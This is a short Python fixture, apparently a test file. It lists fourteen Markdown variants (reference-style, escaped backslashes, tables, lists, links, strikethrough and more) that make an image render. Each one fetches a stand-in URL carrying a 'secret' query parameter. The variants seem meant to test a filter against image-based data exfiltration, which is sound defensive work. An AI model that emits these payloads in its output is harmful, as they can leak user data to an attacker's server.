"""Ways to get a Markdown image drawn that a naive pattern might miss, each fetching `URL`."""

URL = "http://127.0.0.1:9/leak.png?q=secret"
# Each is a way to get an image drawn that a naive pattern might miss.
TRICKS = {
    "inline": f"look ![x]({URL}) here",
    "escaped backslash then image": f"\\\\![x]({URL})",
    "four backslashes then image": f"\\\\\\\\![x]({URL})",
    "reference style": f"![x][ref]\n\n[ref]: {URL}",
    "collapsed reference": f"![ref][]\n\n[ref]: {URL}",
    "shortcut reference": f"![ref]\n\n[ref]: {URL}",
    "image inside a link": f"[![x]({URL})](http://127.0.0.1:9/)",
    "angle-bracket destination with a title": f'![x](<{URL}> "title")',
    "in a table cell": f"| a |\n|---|\n| ![x]({URL}) |",
    "in a list": f"- ![x]({URL})",
    "in a quote": f"> ![x]({URL})",
    "under strikethrough": f"~~![x]({URL})~~",
    "two images, one after an escaped backslash": f"![a]({URL}) and \\\\![b]({URL})",
    "nested brackets in the alt": f"![a [b] c]({URL})",
}
